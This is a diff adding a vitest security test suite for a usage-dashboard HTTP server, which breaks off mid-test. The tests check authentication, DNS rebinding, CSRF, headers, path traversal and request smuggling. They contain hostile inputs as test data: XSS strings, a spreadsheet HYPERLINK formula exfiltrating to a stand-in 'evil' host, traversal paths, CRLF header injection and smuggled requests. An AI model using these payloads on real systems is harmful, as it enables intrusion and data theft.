@@ -1,0 +1,1012 @@
+import { createHmac } from 'node:crypto';
+import { once } from 'node:events';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import net, { type AddressInfo } from 'node:net';
+import { networkInterfaces, tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { setTimeout as pause } from 'node:timers/promises';
+import { afterEach, describe, expect, test, vi } from 'vitest';
+import { TrackUsageError } from '../../src/errors.ts';
+import { Access } from '../../src/server/access.ts';
+import { ENDPOINTS, type HandlerSource, type Questions } from '../../src/server/api.ts';
+import { readFiles, sendFile } from '../../src/server/files.ts';
+import { LiveStreams } from '../../src/server/live.ts';
+import { type HandlerOptions, readHandlerOptions } from '../../src/server/options.ts';
+import { MemoryStorage } from '../../src/storages/memory/index.ts';
+import { type Answer, connect, exchange, parseResponses } from '../support/client.ts';
+import {
+  ALL,
+  bearer,
+  cookieOf,
+  filled,
+  form,
+  HOST,
+  jsonOf,
+  listening,
+  NOW,
+  nothingStored,
+  type Served,
+  serve,
+  sourceOf,
+  statusOf,
+  TOKEN,
+} from './support.ts';
+
+const closing: (() => unknown)[] = [];
+afterEach(async () => {
+  vi.useRealTimers();
+  vi.restoreAllMocks();
+  for (const close of closing.splice(0).reverse()) await close();
+});
+
+async function start(options?: HandlerOptions, source?: HandlerSource, host?: string): Promise<Served> {
+  const served = await serve(source ?? nothingStored(), options, host);
+  closing.push(() => served.close());
+  return served;
+}
+
+/** Nothing that goes wrong anywhere ends the process. */
+const loose: unknown[] = [];
+process.on('unhandledRejection', (reason) => loose.push(reason));
+process.on('uncaughtException', (error) => loose.push(error));
+afterEach(() => expect(loose.splice(0)).toEqual([]));
+
+const codeOf = (answer: Answer) => [answer.status, jsonOf(answer).code];
+const SITE = '/usage/api/v1/site';
+const QUESTIONS = [
+  ...ENDPOINTS.map(({ path }) => `/api/v1${path.replace('{summary}', 'urls')}`),
+  ...['/api/v1/openapi.json', '/api/v1/live', '/api/v1/nothing', '/api/', '/metrics'],
+  ...['/api/v1/records?format=csv', '/api/v1/summaries/urls?format=ndjson'],
+];
+const LOCAL = { host: 'localhost' };
+
+/** The token of a link. */
+const tokenOf = (link: string) => new URL(link).searchParams.get('token')!;
+
+describe('without permission', () => {
+  const guards: [name: string, options: HandlerOptions, headers: Record<string, string>][] = [
+    ['a token', { token: TOKEN }, {}],
+    ['another token', { token: TOKEN }, bearer('another-token-of-22-ch')],
+    ['authorize', { authorize: () => false }, {}],
+    ['nothing but this machine', {}, LOCAL],
+  ];
+  test.each(guards)('no URL answers: %s', async (_, options, headers) => {
+    const served = await start(options);
+    for (const path of QUESTIONS) {
+      for (const method of ['GET', 'HEAD']) {
+        const answer = await served.ask(`/usage${path}`, { method, headers });
+        expect([path, answer.status]).toEqual([path, expect.toBeOneOf([401, 429])]);
+        expect(answer.headers['www-authenticate'] ?? answer.headers['retry-after']).toBeDefined();
+      }
+    }
+  });
+
+  test('spellings of a URL are no way in', async () => {
+    const served = await start({ token: TOKEN });
+    for (const path of [
+      ...['/usage//api/v1/site', '/usage/./api/v1/site', '/usage/x/../api/v1/site', '/usage/%61pi/v1/site'],
+      ...['/usage/API/v1/site', '/usage/api\\v1\\site', '/usage/api/v1/site/', '/usage/api/v1/site%00'],
+      ...['/usage/api%2fv1%2fsite', '/usage/metrics/', '/usage/;/api/v1/site', '/usage/?/api/v1/site'],
+    ]) {
+      const { status } = await served.ask(path);
+      expect([path, status]).toEqual([path, expect.toBeOneOf([401, 404])]);
+    }
+  });
+});
+
+describe('this machine alone', () => {
+  test('by a link that works once', async () => {
+    const { handler, ask } = await start({});
+    const link = handler.link('http://localhost');
+    expect((await ask(SITE, { headers: LOCAL })).status).toBe(401);
+    const path = link.replace('http://localhost', '');
+    // What only looks where it leads does not use it up.
+    await ask(path, { method: 'HEAD', headers: LOCAL });
+    const first = await ask(`${path}&range=7d`, { headers: LOCAL });
+    expect([first.status, first.headers.location]).toEqual([303, '/usage/?range=7d']);
+    expect(first.headers['referrer-policy']).toBe('no-referrer');
+    expect(first.headers['cache-control']).toBe('no-store');
+    const cookie = cookieOf(first);
+    expect((await ask(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
+    expect(codeOf(await ask(path, { headers: LOCAL }))).toEqual([401, 'LINK_WRONG']);
+    // Who came in by it may follow it again.
+    expect((await ask(path, { headers: { ...LOCAL, cookie } })).status).toBe(303);
+    for (const token of ['', 'x', '__proto__', tokenOf(link)]) {
+      expect((await ask(`/usage/?token=${token}`, { headers: LOCAL })).status).toBe(401);
+    }
+  });
+
+  test('the link is printed once, on stderr alone, and not for other names', async () => {
+    const stdout = vi.spyOn(process.stdout, 'write').mockReturnValue(true);
+    const { handler, ask } = await start({});
+    handler.link('http://localhost');
+    await ask('/usage/', { headers: LOCAL });
+    for (const host of [
+      'evil.example/?.localhost',
+      'evil.example#.localhost',
+      'a b.localhost',
+      'evil@localhost',
+    ]) {
+      expect([host, (await ask('/usage/', { headers: { host } })).status]).toEqual([host, 421]);
+    }
+    expect(stdout).not.toHaveBeenCalled();
+  });
+
+  test('not for other machines', async () => {
+    const other = Object.values(networkInterfaces())
+      .flat()
+      .find((found) => found?.family === 'IPv4' && !found.internal)?.address;
+    expect(other, 'this machine has an address that others can reach').toBeDefined();
+    const served = await start({}, undefined, '0.0.0.0');
+    const far = { host: other!, port: served.port, secure: false };
+    for (const header of ['', 'X-Forwarded-For: 127.0.0.1\r\n', 'Forwarded: for=127.0.0.1\r\n']) {
+      for (const path of ['/usage', '/usage/', SITE, '/usage/api/v1/live']) {
+        const said = await exchange(
+          far,
+          `GET ${path} HTTP/1.1\r\nHost: localhost\r\n${header}Connection: close\r\n\r\n`,
+        );
+        expect(said).toMatch(/^HTTP\/1.1 403 /);
+        expect(said).toContain('ACCESS_LOCAL');
+      }
+    }
+    const link = served.handler.link('http://localhost');
+    const said = await exchange(
+      far,
+      `GET /usage/?token=${tokenOf(link)} HTTP/1.0\r\nHost: localhost\r\n\r\n`,
+    );
+    expect(said).toMatch(/^HTTP\/1.1 403 /);
+    // And it did not use up the link.
+    expect((await served.ask(link.slice('http://localhost'.length), { headers: LOCAL })).status).toBe(303);
+  });
+
+  test.each([
+    ...[
+      'x-forwarded-for',
+      'x-forwarded-host',
+      'x-forwarded-proto',
+      'x-forwarded-anything',
+      'forwarded',
+      'via',
+    ],
+    ...['x-real-ip', 'x-client-ip', 'x-cluster-client-ip', 'true-client-ip', 'cf-connecting-ip', 'cf-ray'],
+  ])('not through a proxy: %s', async (name) => {
+    const { ask } = await start({});
+    const answer = await ask(SITE, { headers: { ...LOCAL, [name]: '127.0.0.1' } });
+    expect(codeOf(answer)).toEqual([403, 'ACCESS_LOCAL']);
+  });
+});
+
+test('a name that was made to mean this machine is not answered (DNS rebinding)', async () => {
+  const hosts = [
+    'evil.example',
+    'localhost.evil.example',
+    '127.0.0.1.evil.example',
+    'evil.example:80',
+    'localhost.',
+    '10.0.0.1',
+  ];
+  for (const options of [{}, { public: true }] as HandlerOptions[]) {
+    const { ask, handler, port } = await start(options);
+    const token = options.public ? '' : `?token=${tokenOf(handler.link('http://localhost'))}`;
+    for (const host of hosts) {
+      expect([host, ...codeOf(await ask(`/usage/${token}`, { headers: { host } }))]).toEqual([
+        host,
+        421,
+        'ACCESS_HOST',
+      ]);
+    }
+    const none = await exchange(
+      { host: HOST, port, secure: false },
+      'GET /usage/api/v1/site HTTP/1.0\r\n\r\n',
+    );
+    expect(none).toMatch(/^HTTP\/1.1 421 /);
+    for (const host of [
+      'localhost',
+      'localhost:3000',
+      'app.localhost',
+      '127.0.0.1:80',
+      '[::1]:3000',
+      'LOCALHOST',
+    ]) {
+      expect((await ask(SITE, { headers: { host } })).status).toBe(options.public ? 200 : 401);
+    }
+  }
+  const named = await start({ token: TOKEN, hosts: ['Stats.example.com'] });
+  expect((await named.ask(SITE, { headers: { ...bearer(), host: 'stats.example.com:8080' } })).status).toBe(
+    200,
+  );
+  expect((await named.ask(SITE, { headers: { ...bearer(), host: 'localhost' } })).status).toBe(421);
+});
+
+describe('the token', () => {
+  test('cannot be guessed for long, and nobody else pays for who tries', async () => {
+    const { ask } = await start({ token: TOKEN });
+    const cookie = cookieOf(await ask('/usage/login', form(TOKEN)));
+    for (let i = 0; i < 5; i++) {
+      expect((await ask(SITE, { headers: bearer(`guess-${i}`) })).status).toBe(401);
+    }
+    for (const answer of [await ask(SITE, { headers: bearer() }), await ask('/usage/login', form(TOKEN))]) {
+      expect(codeOf(answer)).toEqual([429, 'ACCESS_SLOWED']);
+      expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
+      expect(Number(answer.headers['retry-after'])).toBeLessThanOrEqual(60);
+    }
+    // Who is signed in, and other addresses, are not affected.
+    expect((await ask(SITE, { headers: { cookie } })).status).toBe(200);
+  });
+
+  test('is tried per address, of IPv6 per network, in bounded memory', async () => {
+    const access = new Access(readHandlerOptions({ token: TOKEN }));
+    const from = (remoteAddress: string, given: string) =>
+      access.allows({ headers: bearer(given), socket: { remoteAddress } } as unknown as http.IncomingMessage);
+    for (let i = 0; i < 5; i++) await from('2001:db8::1', `guess-${i}`);
+    // However it is written, the same network.
+    for (const same of ['2001:db8::2', '2001:db8::1:1', '2001:db8:0:0:ffff:1:1:1', '2001:0db8::9%eth0']) {
+      expect(await from(same, TOKEN)).toMatchObject({ status: 429 });
+    }
+    for (const other of ['2001:db8:0:1::1', '2001:db9::1', '::1', '192.0.2.1', '::ffff:192.0.2.1']) {
+      expect(await from(other, TOKEN)).toBe(true);
+    }
+    const before = process.memoryUsage().heapUsed;
+    for (let i = 0; i < 100_000; i++) await from(`10.${i >> 16}.${(i >> 8) & 255}.${i & 255}`, 'guess');
+    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50_000_000);
+    vi.useFakeTimers({ now: Date.now() + 61_000 });
+    expect(await from('2001:db8::1', TOKEN)).toBe(true);
+  });
+
+  test('is compared in constant time, whatever its length', async () => {
+    const access = new Access(readHandlerOptions({ token: TOKEN }));
+    const guess = (given: string, address: string) =>
+      access.allows({
+        headers: bearer(given),
+        socket: { remoteAddress: address },
+      } as unknown as http.IncomingMessage);
+    // What is compared are hashes: prefixes of the token, and lengths, make no difference that could be measured.
+    let address = 0;
+    for (const given of ['a', TOKEN.slice(0, -1), `${TOKEN}x`, TOKEN.toUpperCase(), 'a'.repeat(10_000)]) {
+      expect(await guess(given, `10.0.0.${address++}`)).toBe(false);
+    }
+    const source = readFileSync(new URL('../../src/server/access.ts', import.meta.url), 'utf8');
+    expect(source).toContain('timingSafeEqual(hash(one), hash(other))');
+    expect(source).not.toMatch(/(?:given|bearer|signature) ?===? ?(?:token|this)/);
+  });
+
+  test('is not taken from a URL', async () => {
+    const { ask } = await start({ token: TOKEN });
+    expect((await ask(`/usage/?token=${TOKEN}`)).status).toBe(401);
+    expect((await ask(`${SITE}?token=${TOKEN}`)).status).toBe(401);
+  });
+
+  test('an image on another site’s page locks nobody out', async () => {
+    const { ask } = await start({ token: TOKEN });
+    for (let i = 0; i < 20; i++) await ask('/usage/?token=wrong');
+    expect((await ask('/usage/login', form(TOKEN))).status).toBe(303);
+  });
+
+  test('is long, and not in the message where it is not', () => {
+    for (const token of ['secret', 'with blanks in the middle', 'a-line-that-ends-here\n', 'ä'.repeat(20)]) {
+      const read = () => readHandlerOptions({ token });
+      expect(read).toThrow(expect.objectContaining({ code: 'OPTION_INVALID' }));
+      expect(read).not.toThrow(token);
+    }
+  });
+});
+
+describe('the session', () => {
+  test('its cookie', async () => {
+    const { ask } = await start({ token: TOKEN, path: '/stats' });
+    const plain = String((await ask('/stats/login', form(TOKEN))).headers['set-cookie']);
+    expect(plain).toMatch(
+      /^track-usage-session=\d{10}\.[\w-]{43}; Max-Age=604800; Path=\/stats; HttpOnly; SameSite=Strict$/,
+    );
+    const given = form(TOKEN);
+    const behind = await ask('/stats/login', {
+      ...given,
+      headers: { ...given.headers, 'x-forwarded-proto': 'https' },
+    });
+    expect(String(behind.headers['set-cookie'])).toContain('; Secure');
+    expect(plain).not.toContain(TOKEN);
+  });
+
+  test('cannot be made up', async () => {
+    const { ask } = await start({ token: TOKEN });
+    const right = cookieOf(await ask('/usage/login', form(TOKEN))).split('=')[1]!;
+    const [expires = '', signature = ''] = right.split('.');
+    const later = String(Number(expires) + 1);
+    const sign = (key: string, text: string) => createHmac('sha256', key).update(text).digest('base64url');
+    for (const value of [
+      ...[
+        '',
+        '.',
+        `${expires}.`,
+        `.${signature}`,
+        expires,
+        `${later}.${signature}`,
+        `${expires}.${signature}x`,
+      ],
+      ...[`${expires}0.${signature}`, `-${expires}.${signature}`, `${expires}.${signature.toLowerCase()}`],
+      ...[`9999999999.${sign('', '/usage 9999999999')}`, `9999999999.${sign(TOKEN, '/usage 9999999999')}`],
+      ...['__proto__', '%00', '%', `${expires}e9.${signature}`],
+    ]) {
+      const { status } = await ask(SITE, { headers: { cookie: `track-usage-session=${value}` } });
+      expect([value, status]).toEqual([value, 401]);
+    }
+    expect((await ask(SITE, { headers: { cookie: `a=b; track-usage-session=${right}; c=d` } })).status).toBe(
+      200,
+    );
+  });
+
+  test('ends, and is for its path and token alone', async () => {
+    const one = await start({ token: TOKEN });
+    const cookie = cookieOf(await one.ask('/usage/login', form(TOKEN)));
+    for (const options of [{ token: TOKEN, path: '/other' }, { token: `${TOKEN}2` }] as HandlerOptions[]) {
+      const { ask, handler } = await start(options);
+      expect((await ask(`${handler.path}/api/v1/site`, { headers: { cookie } })).status).toBe(401);
+    }
+    const same = await start({ token: TOKEN });
+    expect((await same.ask(SITE, { headers: { cookie } })).status).toBe(200);
+    vi.useFakeTimers({ now: Date.now() + 7 * 24 * 3_600_000 + 1_000, toFake: ['Date'] });
+    expect((await one.ask(SITE, { headers: { cookie } })).status).toBe(401);
+  });
+
+  test('of one process without a token is not one of another', async () => {
+    const one = await start({});
+    const cookie = cookieOf(await one.ask(one.handler.link(''), { headers: LOCAL }));
+    expect((await one.ask(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(200);
+    const other = await start({});
+    expect((await other.ask(SITE, { headers: { ...LOCAL, cookie } })).status).toBe(401);
+  });
+});
+
+describe('pages of other sites', () => {
+  test.each([
+    [{ 'sec-fetch-site': 'cross-site' }, 403],
+    [{ 'sec-fetch-site': 'same-site' }, 403],
+    [{ origin: 'http://evil.example' }, 403],
+    [{ origin: 'null' }, 403],
+    [{ origin: 'http://localhost.evil.example' }, 403],
+    [{ origin: 'http://localhost:1', host: 'localhost:2' }, 403],
+    [{ origin: 'http://evil.example', 'sec-fetch-site': 'cross-site', host: 'evil.example' }, 403],
+    [{ origin: 'http://localhost:1', host: 'localhost:1' }, 303],
+    [{ 'sec-fetch-site': 'same-origin', origin: 'https://behind.proxy' }, 303],
+    [{}, 303],
+  ])('sign nobody in: %j', async (headers, status) => {
+    const { ask } = await start({ token: TOKEN });
+    const given = form(TOKEN);
+    const answer = await ask('/usage/login', {
+      ...given,
+      headers: { ...given.headers, ...(headers as object) },
+    });
+    expect(answer.status).toBe(status);
+    expect(answer.headers['set-cookie'] === undefined).toBe(status === 403);
+  });
+
+  test('a GET changes nothing, and no method is taken from elsewhere', async () => {
+    const { ask } = await start({ token: TOKEN });
+    expect((await ask(`/usage/login?token=${TOKEN}`)).status).toBe(405);
+    for (const override of ['x-http-method-override', 'x-method-override', 'x-http-method']) {
+      const headers = { ...bearer(), [override]: 'POST' };
+      expect((await ask(`/usage/login?token=${TOKEN}&_method=POST`, { headers })).status).toBe(405);
+      expect((await ask(SITE, { method: 'POST', headers: { ...bearer(), [override]: 'GET' } })).status).toBe(
+        405,
+      );
+    }
+    for (const method of ['PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'PROPFIND']) {
+      const { status, body } = await ask(SITE, { method, headers: bearer() });
+      expect([method, status]).toEqual([method, 405]);
+      expect(body.toString()).not.toContain(TOKEN);
+    }
+  });
+});
+
+test('every answer has the headers that keep it harmless', async () => {
+  const source = nothingStored();
+  const broken = {
+    ...source,
+    query: { ...source.query, site: () => Promise.reject(new Error('x')) } as Questions,
+  };
+  const guarded = await start({ token: TOKEN }, broken);
+  const local = await start({});
+  const answers = [
+    ...(await Promise.all(
+      [
+        '',
+        '/',
+        '/nothing',
+        '/index.html',
+        '/api/v1/site',
+        '/api/v1/openapi.json',
+        '/api/v1/records?format=csv',
+        '/metrics',
+      ].map((path) => guarded.ask(`/usage${path}`, { headers: bearer() })),
+    )),
+    await guarded.ask(SITE),
+    await guarded.ask('/usage/login', form('wrong')),
+    await guarded.ask('/usage/login', form(TOKEN)),
+    await guarded.ask('/usage/x', { method: 'DELETE' }),
+    await local.ask('/usage/', { headers: { host: 'evil.example' } }),
+    await local.ask('/usage/', { headers: { ...LOCAL, via: 'x' } }),
+  ];
+  for (const { headers } of answers) {
+    expect(headers['content-security-policy']).toMatch(
+      /^default-src 'none'; script-src 'self'; .*frame-ancestors 'none'$/,
+    );
+    expect(headers['content-security-policy']).not.toMatch(/unsafe|\*/);
+    expect(headers).toMatchObject({
+      'x-content-type-options': 'nosniff',
+      'x-frame-options': 'DENY',
+      'referrer-policy': 'no-referrer',
+      'cross-origin-resource-policy': 'same-origin',
+    });
+    expect(headers['access-control-allow-origin']).toBeUndefined();
+    expect(headers['content-type'] ?? 'none').not.toMatch(/html/);
+  }
+});
+
+describe('what others wrote into a request', () => {
+  const XSS = '<script>alert(1)</script>"\'><img src=x onerror=alert(1)>\u2028</title>';
+  const FORMULA = '=HYPERLINK("http://evil/?"&A1)';
+  async function attacked(text: string) {
+    const extra = { vars: { [text]: text }, routeParams: { a: text }, geo: { city: text } };
+    const fields = [
+      'url',
+      'route',
+      'agent',
+      'referrer',
+      'language',
+      'remoteAddr',
+      'forwardedFor',
+      'username',
+    ] as const;
+    const more = [
+      'visitor',
+      'country',
+      'browser',
+      'version',
+      'platform',
+      'blueprint',
+      'method',
+      'protocol',
+      'serverName',
+    ] as const;
+    const record = Object.fromEntries([...fields, ...more].map((name) => [name, text]));
+    const storage = await filled(new MemoryStorage({ hooks: ALL }), [
+      { date: NOW - 1_000, ...record, extra },
+    ]);
+    return start({ token: TOKEN }, sourceOf(storage));
+  }
+
+  test('comes as JSON, CSV and NDJSON alone, named as such', async () => {
+    const { ask } = await attacked(XSS);
+    for (const summary of ['/records', ...ALL.map((name) => `/summaries/${name}`)]) {
+      for (const [format, type] of [
+        ['json', 'application/json; charset=utf-8'],
+        ['csv', 'text/csv; charset=utf-8; header=present'],
+        ['ndjson', 'application/x-ndjson; charset=utf-8'],
+      ]) {
+        const answer = await ask(`/usage/api/v1${summary}?format=${format}`, { headers: bearer() });
+        expect([answer.status, answer.headers['content-type']]).toEqual([200, type]);
+        expect(answer.headers['x-content-type-options']).toBe('nosniff');
+        if (format !== 'json')
+          expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="[a-z-]+\./);
+      }
+    }
+  });
+
+  test('comes back in no problem as anything but JSON', async () => {
+    const { ask } = await attacked('x');
+    for (const path of [
+      `/api/v1/totals?from=${encodeURIComponent(XSS)}`,
+      `/api/v1/${encodeURIComponent(XSS)}`,
+      `/${encodeURIComponent(XSS)}`,
+    ]) {
+      const { headers, status } = await ask(`/usage${path}`, { headers: bearer() });
+      expect([headers['content-type'], status]).toEqual([
+        'application/problem+json; charset=utf-8',
+        path.includes('from') ? 400 : 404,
+      ]);
+    }
+  });
+
+  test('is no formula in a CSV', async () => {
+    const { ask } = await attacked(FORMULA);
+    for (const path of ['/records', '/summaries/urls', '/summaries/user-agents', '/summaries/remotes']) {
+      const text = (await ask(`/usage/api/v1${path}?format=csv`, { headers: bearer() })).body.toString();
+      expect(text).toContain("'=HYPERLINK");
+      expect(text).not.toMatch(/(?:^|,)"?=HYPERLINK/m);
+    }
+  });
+});
+
+describe('the request line', () => {
+  test('leads to no file outside the dashboard', async () => {
+    const directory = mkdtempSync(join(tmpdir(), 'track-usage-files-'));
+    closing.push(() => rmSync(directory, { recursive: true }));
+    writeFileSync(join(directory, 'index.html'), '<p>dashboard');
+    writeFileSync(join(directory, 'app-abcdefgh.js'), 'x'.repeat(300_000));
+    writeFileSync(join(directory, 'app-abcdefgh.js.gz'), 'zipped');
+    writeFileSync(join(directory, 'secret.env'), 'SECRET');
+    const files = await readFiles(directory);
+    const server = http.createServer((request, response) => {
+      if (!sendFile(request, response, files, request.url!)) response.writeHead(404).end();
+    });
+    await listening(server.listen(0, HOST));
+    closing.push(() => server.close());
+    const address = { host: HOST, port: (server.address() as AddressInfo).port, secure: false };
+    const get = async (path: string, headers = '') =>
+      parseResponses(
+        await exchange(address, `GET ${path} HTTP/1.1\r\nHost: x\r\n${headers}Connection: close\r\n\r\n`),
+      )[0]!;
+    expect((await get('/')).head).toMatch(/text\/html[\s\S]*no-cache|no-cache[\s\S]*text\/html/);
+    expect((await get('/app-abcdefgh.js', 'Accept-Encoding: gzip\r\n')).head).toMatch(
+      /content-encoding: gzip/i,
+    );
+    expect((await get('/app-abcdefgh.js')).head).toMatch(/immutable/);
+    expect((await get('/app-abcdefgh.js', 'Range: bytes=5-2\r\n')).body).toHaveLength(300_000);
+    for (const path of [
+      ...[
+        '/../package.json',
+        '/..%2fpackage.json',
+        '/%2e%2e/package.json',
+        '/..\\package.json',
+        '/./index.html',
+      ],
+      ...[
+        '/index.html%00.js',
+        '/%00',
+        '//etc/passwd',
+        '/C:/',
+        '/secret.env',
+        '/.',
+        '/constructor',
+        '/__proto__',
+        '/%',
+      ],
+    ]) {
+      expect([path, (await get(path)).status]).toEqual([path, 404]);
+    }
+    // A package that is replaced on the disk under a running app does not end it.
+    rmSync(directory, { recursive: true });
+    expect((await get('/')).status).toBe(200);
+    closing.pop();
+    closing.pop();
+    server.close();
+  });
+
+  test('in its odd forms', async () => {
+    const { port } = await start({ token: TOKEN });
+    const address = { host: HOST, port, secure: false };
+    const raw = (target: string) =>
+      exchange(address, `GET ${target} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
+    for (const target of [
+      'http://x/usage/api/v1/site',
+      'http://localhost/usage/',
+      '*',
+      '//usage/api/v1/site',
+      '/./usage/',
+    ]) {
+      expect([target, (await raw(target)).endsWith('app')]).toEqual([target, true]);
+    }
+    for (const target of [
+      '/usage/../',
+      '/usage/..%2f..%2fetc/passwd',
+      '/usage/%2e%2e/%2e%2e/',
+      '/usage/\\..\\..',
+      '/usage/%00',
+    ]) {
+      const said = await raw(target);
+      expect([target, said.slice(0, 13)]).toEqual([target, 'HTTP/1.1 404 ']);
+      expect(said).toContain('PATH_UNKNOWN');
+    }
+    const [moved] = parseResponses(await raw('/usage?a=%0d%0aX-Evil:1&b=%0aSet-Cookie:x'));
+    expect(moved!.status).toBe(303);
+    expect(moved!.head).not.toMatch(/^(?:X-Evil|Set-Cookie)/im);
+    const [entered] = parseResponses(await raw('/usage/?token=x&x=%0d%0aX-Evil:1'));
+    expect(entered!.head).not.toMatch(/^X-Evil/im);
+  });
+
+  test('what is left of a request is not the next one', async () => {
+    const { port } = await start({ token: TOKEN });
+    const smuggled = 'GET /usage/api/v1/openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n';
+    for (const line of [
+      'POST /usage/api/v1/site',
+      'GET /usage/nothing',
+      'POST /usage/login',
+      'DELETE /usage/',
+    ]) {
+      const said = await exchange(
+        { host: HOST, port, secure: false },
+        `${line} HTTP/1.1\r\nHost: localhost\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}` +
+          'GET / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n',
+      );
+      expect(parseResponses(said)).toHaveLength(2);
+      expect(said.endsWith('app')).toBe(true);
+    }
+  });
+});
+
+describe('the form', () => {
+  test('that is too long is refused, and not read', async () => {
+    const { ask, port } = await start({ token: TOKEN });
+    const long = { ...form(TOKEN), body: `token=${'x'.repeat(100_000)}` };
+    expect(codeOf(await ask('/usage/login', long))).toEqual([413, 'FORM_LONG']);
+    const socket = await connect({ host: HOST, port, secure: false });
+    socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000000000\r\n\r\n');
+    socket.write('x'.repeat(20_000));
+    const [said] = await once(socket, 'data');
+    expect(String(said)).toMatch(/^HTTP\/1.1 413 [\s\S]*connection: close/i);
+    socket.destroy();
+    // It was no guess.
+    for (let i = 0; i < 6; i++) await ask('/usage/login', long);
+    expect((await ask('/usage/login', form(TOKEN))).status).toBe(303);
+  });
+
+  test('that does not come ends', async () => {
+    const { port } = await start({ token: TOKEN, timeout: 200 });
+    const begun = performance.now();
+    const said = await exchange(
+      { host: HOST, port, secure: false },
+      'POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok',
+    );
+    expect(said).toMatch(/^HTTP\/1.1 408 [\s\S]*FORM_SLOW/);
+    expect(performance.now() - begun).toBeLessThan(5_000);
+  });
+
+  test('whose sender leaves harms nobody', async () => {
+    const { port, ask } = await start({ token: TOKEN });
+    for (let i = 0; i < 20; i++) {
+      const socket = await connect({ host: HOST, port, secure: false });
+      socket.write('POST /usage/login HTTP/1.1\r\nHost: localhost\r\nContent-Length: 30\r\n\r\ntok');
+      await pause(5);
+      socket.resetAndDestroy();
+    }
+    await pause(50);
+    expect((await ask('/')).body.toString()).toBe('app');
+  });
+});
+
+describe('authorize', () => {
+  test.each([
+    [
+      'throws',
+      () => {
+        throw new Error('secret');
+      },
+    ],
+    [
+      'rejects',
+      async () => {
+        throw new Error('secret');
+      },
+    ],
+    ['answers a truthy value', () => 'yes'],
+    ['answers 1', async () => 1],
+    ['answers an object', () => ({ ok: true })],
+    ['answers nothing', () => undefined],
+    ['never answers', () => new Promise(() => {})],
+    [
+      'rejects later',
+      async () => {
+        await pause(300);
+        throw new Error('late');
+      },
+    ],
+  ] as [string, () => never][])('that %s keeps people out', async (_, authorize) => {
+    const { ask } = await start({ authorize, timeout: 150 });
+    const answer = await ask(SITE);
+    expect(codeOf(answer)).toEqual([401, 'AUTH_REFUSED']);
+    expect(answer.body.toString()).not.toContain('secret');
+    await pause(200);
+  });
+
+  test('that says true lets them in', async () => {
+    const { ask } = await start({ authorize: async ({ headers }) => headers['x-user'] === 'jane' });
+    expect((await ask(SITE, { headers: { 'x-user': 'jane' } })).status).toBe(200);
+    expect((await ask(SITE)).status).toBe(401);
+  });
+});
+
+describe('event streams', () => {
+  const MANY = 2_000;
+
+  test(`${MANY} at once: the limit holds, the app answers, places are freed`, async () => {
+    const { port, ask } = await start(
+      { public: true, maxStreams: 50 },
+      { ...nothingStored(), status: () => statusOf() },
+    );
+    const agent = new http.Agent({ maxSockets: Number.POSITIVE_INFINITY });
+    const before = process.memoryUsage().heapUsed;
+    const open: http.IncomingMessage[] = [];
+    const statuses = await Promise.all(
+      Array.from(
+        { length: MANY },
+        () =>
+          new Promise<number>((resolve, reject) => {
+            http
+              .get({ host: HOST, port, agent, path: '/usage/api/v1/live' }, (response) => {
+                if (response.statusCode === 200) open.push(response);
+                response.on('error', () => {}).resume();
+                resolve(response.statusCode!);
+              })
+              .on('error', reject);
+          }),
+      ),
+    );
+    expect(statuses.filter((status) => status === 200)).toHaveLength(50);
+    expect(statuses.filter((status) => status === 503)).toHaveLength(MANY - 50);
+    const begun = performance.now();
+    expect((await ask('/')).body.toString()).toBe('app');
+    expect(performance.now() - begun).toBeLessThan(1_000);
+    expect(codeOf(await ask('/usage/api/v1/live'))).toEqual([503, 'STREAMS_FULL']);
+    expect(process.memoryUsage().heapUsed - before).toBeLessThan(200_000_000);
+    for (const response of open) response.destroy();
+    await vi.waitFor(async () => {
+      const request = http.get({ host: HOST, port, path: '/usage/api/v1/live' });
+      const [response] = await once(request, 'response');
+      request.destroy();
+      expect(response.statusCode).toBe(200);
+    });
+  });
+
+  test('who does not read is let go', async () => {
+    const live = new LiveStreams(
+      { ...nothingStored(), status: () => statusOf({ captured: Math.random() }) },
+      10,
+    );
+    const response = Object.assign(new http.ServerResponse({ method: 'GET' } as http.IncomingMessage), {
+      destroy: vi.fn(() => response.emit('close')),
+    });
+    Object.defineProperty(response, 'writableLength', { get: () => 100_000 });
+    const request = Object.assign(new http.IncomingMessage(new net.Socket()), { method: 'GET' });
+    live.begin(request, response as unknown as http.ServerResponse);
+    await vi.waitFor(() => expect(response.destroy).toHaveBeenCalled(), 3_000);
+    expect(live.isFull).toBe(false);
+  });
+
+  test('end when their server does', async () => {
+    const { server, port } = await start({ public: true }, { ...nothingStored(), status: () => statusOf() });
+    const request = http.get({ host: HOST, port, path: '/usage/api/v1/live' });
+    const [response] = await once(request, 'response');
+    response.resume();
+    const begun = performance.now();
+    server.close();
+    await once(server, 'close');
+    expect(performance.now() - begun).toBeLessThan(5_000);
+  });
+
+  test('need permission, and a HEAD of one ends', async () => {
+    const { ask } = await start({ token: TOKEN });
+    expect((await ask('/usage/api/v1/live')).status).toBe(401);
+    expect((await ask('/usage/api/v1/live', { method: 'HEAD', headers: bearer() })).status).toBe(200);
+  });
+});
+
+/** A storage that answers each question by `answer`. */
+function answering(answer: () => Promise<never>): HandlerSource {
+  const source = nothingStored();
+  return { ...source, query: { site: answer, totals: answer, series: answer, top: answer, records: answer } };
+}
+
+describe('a storage', () => {
+  const SECRET = 'postgres://root:hunter2@db.internal:5432/app';
+  test.each([
+    new Error(`connect ECONNREFUSED ${SECRET}`),
+    new TrackUsageError('STORAGE_NOT_FOUND', { value: SECRET }),
+    new TrackUsageError('STORAGE_OFFLINE', { what: SECRET, reason: SECRET }),
+    new TrackUsageError('STORAGE_SERVER', { value: SECRET, found: '1', reason: 'old' }),
+    Object.assign(new Error(SECRET), { stack: `Error\n at /srv/app/${SECRET}` }),
